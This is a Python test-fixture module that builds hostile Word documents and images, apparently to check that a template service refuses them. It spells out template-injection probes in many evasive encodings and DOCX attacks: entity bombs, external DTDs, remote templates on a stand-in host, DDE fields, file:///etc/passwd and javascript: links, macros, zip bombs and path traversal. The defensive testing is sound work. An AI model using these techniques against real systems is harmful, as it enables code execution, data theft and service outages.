"""Files that a stranger, or a careless office, may send: what each must not do is its name."""

# ruff: noqa: E501 - a trick is read best on one line

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pillow_heif
from PIL import Image

from tests.factories.documents import with_part

pillow_heif.register_heif_opener()

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"


TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def docx(text: str) -> bytes:
    """The smallest DOCX: quick to check, and opened by python-docx."""
    first = f'<Relationships xmlns="{REL}">%s</Relationships>'
    to = f'<Relationship Id="r" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as new:
        new.writestr("[Content_Types].xml", TYPES)
        new.writestr("_rels/.rels", first % to)
        new.writestr("word/document.xml", body(p(text)))
        new.writestr(RELS, first % "")
    return out.getvalue()


def body(inside: str, before: str = "") -> str:
    """The main part around some XML of paragraphs."""
    return f'{before}<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'


def p(*runs: str) -> str:
    texts = "".join(f"<w:r><w:t>{run}</w:t></w:r>" for run in runs)
    return f"<w:p>{texts}</w:p>"


def main(xml: str | bytes) -> bytes:
    """A DOCX with this main part."""
    data = xml if isinstance(xml, bytes) else xml.encode()
    return with_part(docx("x"), "word/document.xml", data)


def code(instruction: str, *more: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction, *more))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    with ZipFile(BytesIO(docx("x"))) as archive:
        old = archive.read(RELS).decode()
    new = f"<Relationship Id='rX' Type='{kind}' Target='{target}' {mode}/></Relationships>"
    return with_part(docx("{{name}}"), RELS, old.replace("</Relationships>", new).encode())


NAME = p("{{name}}")
SUM = NAME + p("{{7*7}}")
# Expressions, however they are written. Each template also holds a good placeholder.
EXPRESSIONS = {
    "plain": main(body(SUM)),
    "entities": main(body(NAME + p("&#123;&#123;7*7&#125;&#125;"))),
    "entities in hex": main(body(NAME + p("&#x7b;&#x7B; 7*7 }}"))),
    "a loop in entities": main(body(NAME + p("&#123;% for i in range(9000000) %}x{% endfor %}"))),
    "CDATA": main(body(NAME + p("<![CDATA[{{7*7}}]]>"))),
    "a remark within": main(body(NAME + p("{<!-- x -->{7*7}}"))),
    "an instruction within": main(body(NAME + p("{<?x y?>{7*7}}"))),
    "UTF-16": main(body(SUM, "<?xml version='1.0' encoding='UTF-16'?>").encode("utf-16")),
    "UTF-16 without mark": main(body(SUM).encode("utf-16-le")),
    "UTF-7": main(body(SUM, "<?xml version='1.0' encoding='UTF-7'?>").encode("utf-7")),
    "another encoding": main(body(SUM, "<?xml version='1.0' encoding='cp037'?>")),
    "split over runs": main(body(NAME + p("{", "{7", "*7}", "}"))),
    "split by a break": main(body(NAME + p("{{na</w:t><w:br/><w:t>me}}"))),
    "in a text box": main(body(NAME + f"<w:p><w:r><w:pict>{p('{{7*7}}')}</w:pict></w:r></w:p>")),
    "in a content control": main(body(f"{NAME}<w:sdt><w:sdtContent>{SUM}</w:sdtContent></w:sdt>")),
    "in an insertion": main(body(f"{NAME}<w:p><w:ins>{p('{{7*7}}')[5:-6]}</w:ins></w:p>")),
    "deleted": main(body(NAME + "<w:p><w:del><w:r><w:delText>{{7*7}}</w:delText></w:r></w:del></w:p>")),
    "in an attribute": main(body(NAME + '<w:p w:rsidR="{{7*7}}"/>')),
    "between elements": main(body(NAME + "<w:p>{{7*7}}</w:p>")),
    "in a field": main(body(NAME + code("DATE {{7*7}}"))),
    "full width": main(body(NAME + p("｛｛7*7｝｝"))),
    "comments": with_part(main(body(NAME)), "word/comments.xml", f'<w:comments xmlns:w="{W}">{p("&#123;{7*7}}")}</w:comments>'.encode()),
    "a header": with_part(main(body(NAME)), "word/header9.xml", f'<w:hdr xmlns:w="{W}">{p("&#123;", "{7*7}}")}</w:hdr>'.encode()),
    "a footer of another name": with_part(main(body(NAME)), "word/other.xml", f'<w:ftr xmlns:w="{W}">{p("{{7*7}}")}</w:ftr>'.encode()),
    "endnotes": with_part(main(body(NAME)), "word/endnotes.xml", f'<w:endnotes xmlns:w="{W}">{p("{{x.y}}")}</w:endnotes>'.encode()),
    "custom XML": with_part(main(body(NAME)), "customXml/item1.xml", b"<a>&#123;<b/>{7*7}}</a>"),
    "custom XML in UTF-16": with_part(main(body(NAME)), "customXml/item1.xml", "<a>{{7*7}}</a>".encode("utf-16")),
    "properties": with_part(main(body(NAME)), "docProps/custom.xml", b"<a b='&#123;{7*7}}'/>"),
    "a second document": with_part(main(body(NAME)), "word/document2.xml", body(SUM).encode()),
    "an attribute call": main(body(NAME + p("{{name.__class__}}"))),
    "a filter": main(body(NAME + p("{{name|upper}}"))),
    "thousands": main(body(NAME * 2001)),
}  # fmt: skip

LOL = "<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;'>]>"
DTD = "<!DOCTYPE a SYSTEM 'http://elsewhere.invalid/a.dtd'>"


def zipped(parts: dict[str, bytes], twice: str = "") -> bytes:
    out = BytesIO()
    with ZipFile(BytesIO(docx("{{name}}"))) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part))
            if part.filename == twice:
                new.writestr(part.filename.upper(), old.read(part))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def types(entry: str) -> bytes:
    new = TYPES.replace("</Types>", f"{entry}</Types>")
    return with_part(docx("{{name}}"), "[Content_Types].xml", new.encode())


# Packages that reach out, run or explode: refused as a template and as a scan.
PACKAGES = {
    "entities": main(body(p("&c;{{name}}"), LOL)),
    "a DTD": main(body(NAME, DTD)),
    "a DTD in UTF-16": main(body(NAME, DTD).encode("utf-16")),
    "a DTD in UTF-16 without mark": main(body(NAME, DTD).encode("utf-16-be")),
    "a DTD in custom XML": with_part(docx("{{name}}"), "customXml/i.xml", f"{LOL}<a/>".encode("utf-16")),
    "a template elsewhere": relation(f"{OFFICE}/attachedTemplate", "http://elsewhere.invalid/a.dotm"),
    "single quotes": relation(f"{OFFICE}/attachedTemplate", "//elsewhere.invalid/hyperlink/a.dotm"),
    "hyperlink in the target": relation(f"{OFFICE}/image", "http://elsewhere.invalid/hyperlink/a.png"),
    "hyperlink in the kind": relation("http://x/hyperlink/frame", "http://elsewhere.invalid/"),
    "spelled otherwise": relation(f"{OFFICE}/image", "http://elsewhere.invalid/", "TargetMode='external '"),
    "without a mode": relation(f"{OFFICE}/image", "http://elsewhere.invalid/a.png", ""),
    "a share": relation(f"{OFFICE}/hyperlink", "\\\\elsewhere\\share"),
    "a file": relation(f"{OFFICE}/hyperlink", "file:///etc/passwd"),
    "a script": relation(f"{OFFICE}/hyperlink", "javascript:alert(1)"),
    "another document inside": relation(f"{OFFICE}/aFChunk", "chunk.xml", ""),
    "an alternative chunk": main(body(NAME + '<w:altChunk r:id="r" xmlns:r="x"/>')),
    "HTML inside": zipped({"word/chunk.html": b"<script>"}),
    "a DOCX inside": zipped({"word/chunk.docx": docx("y")}),
    "a workbook inside": zipped({"word/embeddings/a.xlsx": b"PK"}),
    "OLE": zipped({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
    "OLE by element": main(body(NAME + '<o:OLEObject xmlns:o="o"/>')),
    "ActiveX": zipped({"word/activeX/activeX1.xml": b"<a/>"}),
    "macros": zipped({"word/vbaProject.bin": b"x"}),
    "macros by type": types('<Default Extension="xyz" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    "XML by another name": types('<Override PartName="/word/a.png" ContentType="application/x+xml"/>'),
    "DDE": main(body(NAME + code('DDEAUTO c:\\\\a "x"'))),
    "DDE split": main(body(NAME + code("DD", "E x y"))),
    "DDE in a simple field": main(body(NAME + '<w:p><w:fldSimple w:instr=" DDE a b"/></w:p>')),
    "a field never ended": main(body(NAME + code("INCLUDETEXT x").replace("end", "separate"))),
    "a field of fields": main(body(NAME + code("QUOTE 68 68 69"))),
    "a picture by a field": main(body(NAME + code('INCLUDEPICTURE "http://elsewhere.invalid"'))),
    "a link of a field": main(body(NAME + code('HYPERLINK "file:///c:/a.exe"'))),
    "a picture of VML": main(body(NAME + '<v:imagedata xmlns:v="v" src="http://elsewhere.invalid/a"/>')),
    "a very wide cell": main(body(NAME + '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc></w:tr></w:tbl>')),
    "deep": main(body(NAME + "<w:p>" * 5000 + "</w:p>" * 5000)),
    "many elements": main(body(NAME + "<w:p/>" * 400_001)),
    "deep in a scan": main(body(NAME + "<w:r>" * 300 + "</w:r>" * 300)),
    "a bomb": zipped({"word/media/a.png": bytes(40_000_000)}),
    "a bomb of XML": zipped({"word/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}),
    "many parts": zipped({f"word/m{n}.png": b"" for n in range(2001)}),
    "one part twice": zipped({}, twice="word/document.xml"),
    "a path upwards": zipped({"../../etc/a.xml": b"<a/>"}),
    "not well formed": main("<w:document>"),
    "no XML": main(b"\xff\xfe\x00"),
    "nothing": main(b""),
}  # fmt: skip
# Only a scan is refused for none of these, and each is a template with {{name}}.
GOOD_PACKAGES = {
    "plain": docx("{{name}}"),
    "UTF-16": main(body(NAME, "<?xml version='1.0' encoding='UTF-16'?>").encode("utf-16")),
    "entities": main(body(p("&#123;&#123;name}}"))),
    "split": main(body(p("{", "{na", "me}", "}"))),
    "a link": relation(f"{OFFICE}/hyperlink", "https://www.hainan.gov.cn/"),
    "a page number": main(body(NAME + code(" PAGE \\* MERGEFORMAT "))),
    "in a table": main(body(f"<w:tbl><w:tr><w:tc>{NAME}</w:tc></w:tr></w:tbl>")),
    "in a content control": main(body(f"<w:sdt><w:sdtContent>{NAME}</w:sdtContent></w:sdt>")),
}


def picture(kind: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **options)
    return out.getvalue()


def located(orientation: int = 1) -> Image.Exif:
    """What a phone writes beside its photo: where it stood, and how it was held."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = orientation, "PhoneMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (19.0, 14.0, 31.0), 3: "E", 4: (110.0, 28.0, 1.0)})
    return exif


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, and holds nothing of it."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )
